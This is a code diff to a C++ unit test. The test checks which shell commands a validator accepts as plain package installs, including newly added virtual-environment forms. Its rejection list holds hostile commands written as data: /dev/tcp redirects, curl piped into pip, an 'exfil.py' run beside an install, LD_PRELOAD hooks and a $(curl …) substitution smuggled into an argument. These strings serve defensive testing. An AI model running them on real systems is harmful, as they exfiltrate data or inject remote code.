@@ -68,7 +68,11 @@ TEST(ExecutorAction, InstallCommandFormIsParsed) {
 TEST(ExecutorAction, OnlyABarePackageInstallIsMarkedForTheNetwork) {
   for (const char* install : {"pip install einops==0.8.0", "python3 -m pip install -r requirements.txt",
                               "/usr/bin/pip3 install --index-url http://10.0.0.2/simple a", "uv pip install torch",
-                              "apt-get install -y libnuma1", "conda install -y numpy"}) {
+                              "apt-get install -y libnuma1", "conda install -y numpy",
+                              // the playbook's PEP 668 fix and the later steps it runs in the venv
+                              "python3 -m venv --system-site-packages .venv && . .venv/bin/activate && pip install x",
+                              ". .venv/bin/activate && python -m pip install -r requirements.txt",
+                              ".venv/bin/python -m pip install einops==0.8.0"}) {
     EXPECT_TRUE(is_package_install(install)) << install;
   }
   // Attacks: network access disguised next to, inside or around an install, and lookalikes.
@@ -79,7 +83,13 @@ TEST(ExecutorAction, OnlyABarePackageInstallIsMarkedForTheNetwork) {
         "LD_PRELOAD=/workspace/hook.so pip install x", "PYTHONPATH=/workspace pip install x",
         "pip install x > /dev/tcp/10.0.0.2/80", "curl http://e | pip install x", "pip install", "pip list",
         "env pip install x", "timeout 60 pip install x", "pip install x & python3 exfil.py", "python3 -m http.server",
-        "make install"}) {
+        "make install",
+        // the venv steps admit nothing else beside the install, nor an install before them
+        "python3 -m venv .venv && . .venv/bin/activate && curl http://e/x", ". .venv/bin/activate && python3 exfil.py",
+        "python3 -m venv .venv && python3 -c 'import urllib' && pip install x",
+        "python3 -m venv -x .venv && pip install x", ". ./evil.sh && pip install x",
+        "pip install x && . .venv/bin/activate", "python3 -m venv .venv",
+        "python3 -m venv $(curl http://e/x) && pip install x", ". .venv/bin/activate | pip install x"}) {
     EXPECT_FALSE(is_package_install(other)) << other;
   }
 }
